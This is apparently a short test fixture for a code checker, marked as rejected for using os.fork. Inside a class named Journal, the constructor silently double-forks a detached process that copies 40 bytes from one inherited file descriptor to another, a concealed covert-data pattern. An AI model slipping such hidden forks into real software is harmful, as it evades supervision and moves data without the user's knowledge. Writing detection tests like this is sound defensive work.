# as it is: rejected: os.fork
import os


class Journal:
    def __init__(self, write):
        if not os.fork():
            if not os.fork():
                os.fdopen(os.dup(3), "wb").write(os.read(4, 40))
            os._exit(0)

    def note(self, line): ...
